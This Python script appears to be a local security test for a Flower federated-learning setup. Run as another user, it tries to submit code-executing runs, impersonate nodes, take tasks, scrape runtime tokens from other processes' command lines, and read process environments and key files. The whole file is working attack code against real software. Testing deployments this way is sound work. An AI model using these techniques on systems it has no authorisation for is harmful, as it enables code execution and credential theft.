"""A stranger on the machine: every way in that a federation's open ports and command lines might offer.

    python neighbour.py MARKER PORT...    prints, as a JSON list, what worked

Run as another user.  It has Flower, httpx and the ports (`ss -ltn` tells everybody), and no secret.  MARKER is a
file that the code it submits would write, as whoever runs it.
"""

import hashlib
import json
import os
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
from flwr.cli.build import build_fab_from_files
from flwr.common.serde import fab_to_proto
from flwr.proto.control_pb2 import ListRunsRequest, RegisterNodeRequest, StartRunRequest
from flwr.proto.fleet_pb2 import ActivateNodeRequest, RegisterNodeFleetRequest
from flwr.proto.runtime_pb2 import AcquireTaskRequest, GetNodesRequest, PullTaskInputRequest
from flwr.supercore.constant import TaskType
from flwr.supercore.control import ControlHttpClient
from flwr.supercore.fab import Fab
from flwr.supercore.interceptors import RuntimeTokenHttpInterceptor, RuntimeVersionHttpInterceptor
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
from flwr.supercore.protobuf.client import ProtobufClient
from flwr.supercore.runtime import RuntimeHttpClient
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

_SECONDS = 10.0
_PYPROJECT = """
[project]
name = "attack"
version = "1.0.0"
description = "."
license = "Apache-2.0"
dependencies = []
[tool.flwr.app]
publisher = "nobody"
[tool.flwr.app.components]
serverapp = "attack:app"
clientapp = "attack:app"
[tool.flwr.app.config]
"""
_CODE = "import os, pathlib\npathlib.Path({marker!r}).write_text(str(os.geteuid()))\napp = None\n"


def attacks(marker: Path, ports: list[int]) -> Iterator[str]:
    """What worked, one line each."""
    for port in ports:
        for scheme in ("http", "https"):
            for name, attack in _ATTACKS.items():
                if worked(lambda: attack(f"{scheme}://127.0.0.1:{port}", marker)):  # noqa: B023 - called at once
                    yield f"{name} at {scheme} {port}"
    for token, address in tokens_on_command_lines():
        for scheme in ("http", "https"):
            if worked(lambda: with_token(f"{scheme}://{address}", token)):  # noqa: B023
                yield f"a task's messages with the token on a command line, at {address}"
    for path in open_files():
        yield f"read {path}"


def worked(attack: Callable[[], Any]) -> bool:
    try:
        attack()
    except (httpx.HTTPError, OSError, ValueError, SystemExit):
        return False
    return True


def client(kind: type[ProtobufClient], base: str, *interceptors: Any, name: str = "flwr CLI") -> Any:
    """One of Flower's own clients that believes whatever certificate it is shown."""
    version = RuntimeVersionHttpInterceptor(component_name=name)
    return kind(base, interceptors=[version, *interceptors], verify=False, timeout=_SECONDS)


def start_run(base: str, marker: Path) -> None:
    content, _ = build_fab_from_files(
        {"pyproject.toml": _PYPROJECT.encode(), "attack.py": _CODE.format(marker=str(marker)).encode()}
    )
    fab = fab_to_proto(Fab(hashlib.sha256(content).hexdigest(), content, {}))
    answer = client(ControlHttpClient, base).StartRun(StartRunRequest(fab=fab))
    if not answer.HasField("run_id"):
        raise ValueError("no run")
    deadline = time.monotonic() + 30.0
    while not marker.exists() and time.monotonic() < deadline:
        time.sleep(0.2)


def list_runs(base: str, marker: Path) -> None:
    client(ControlHttpClient, base).ListRuns(ListRunsRequest())


def register_a_key(base: str, marker: Path) -> None:
    key = public_key_to_bytes(generate_key_pairs()[1])
    client(ControlHttpClient, base).RegisterNode(RegisterNodeRequest(public_key=key, name="silo-0"))


def connect_as_a_supernode(base: str, marker: Path) -> None:
    private, public = generate_key_pairs()
    fleet = client(FleetHttpClient, base, NodeAuthHttpInterceptor(private, public), name="SuperNode")
    key = public_key_to_bytes(public)
    fleet.RegisterNode(RegisterNodeFleetRequest(public_key=key))
    fleet.ActivateNode(ActivateNodeRequest(public_key=key, heartbeat_interval=30.0))


def take_a_task(base: str, marker: Path) -> None:
    """An answer without a task is one more look: whoever may ask gets the next one."""
    kinds = [str(kind) for kind in TaskType]
    client(RuntimeHttpClient, base, name="SuperExec").AcquireTask(AcquireTaskRequest(supported_task_types=kinds))


def with_token(base: str, token: str) -> None:
    runtime = client(RuntimeHttpClient, base, RuntimeTokenHttpInterceptor(token=token), name="flwr-serverapp")
    try:
        runtime.GetNodes(GetNodesRequest())
    except httpx.HTTPStatusError:
        runtime.PullTaskInput(PullTaskInputRequest())


_ATTACKS: dict[str, Callable[[str, Path], None]] = {
    "code by a submitted run": start_run,
    "the list of runs": list_runs,
    "a SuperNode's key registered": register_a_key,
    "a SuperNode": connect_as_a_supernode,
    "a task": take_a_task,
}


def processes() -> Iterator[tuple[Path, list[str]]]:
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            words = (folder / "cmdline").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        if int(folder.name) != os.getpid():
            yield folder, words


def tokens_on_command_lines(seconds: float = 10.0) -> set[tuple[str, str]]:
    """Every --token with the address beside it that a command line showed within some seconds."""
    found = set()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for _, words in processes():
            if "--token" in words and "--runtime-api-address" in words:
                token, address = (words[words.index(name) + 1] for name in ("--token", "--runtime-api-address"))
                found.add((token, address))
        time.sleep(0.05)
    return found


def open_files() -> Iterator[Path]:
    """Secrets that anybody may read: environments of processes, what command lines name, fedpriv's folders."""
    for folder, words in processes():
        if not any("fedpriv" in word or "flwr" in word or "flower" in word for word in words):
            continue
        named = [Path(word.partition("=")[2] or word) for word in words if "/" in word]
        secrets = [path for path in named if path.suffix in (".key", ".secret", ".sqlite", ".sock")]
        for path in (folder / "environ", folder / "fd" / "3", *secrets):
            try:
                with path.open("rb") as file:
                    file.read(1)
            except OSError:
                continue
            yield path
    for folder in Path(tempfile.gettempdir()).glob("fedpriv-*"):
        try:
            list(folder.iterdir())
        except OSError:
            continue
        yield folder


def as_nobody(marker: Path, ports: list[int]) -> list[str]:
    """What worked for a user who is not us; run by root only."""
    interpreter = sys.executable
    command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", interpreter, "-P", __file__]
    words = [*command, str(marker), *map(str, ports)]
    environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "FLWR_HOME": "/nonexistent"}
    done = subprocess.run(
        words, env=environment, cwd="/", capture_output=True, text=True, timeout=300, check=False
    )
    assert done.returncode == 0, done.stderr
    return list(json.loads(done.stdout.strip().splitlines()[-1]))


if __name__ == "__main__":
    print(json.dumps(list(attacks(Path(sys.argv[1]), [int(word) for word in sys.argv[2:]]))))
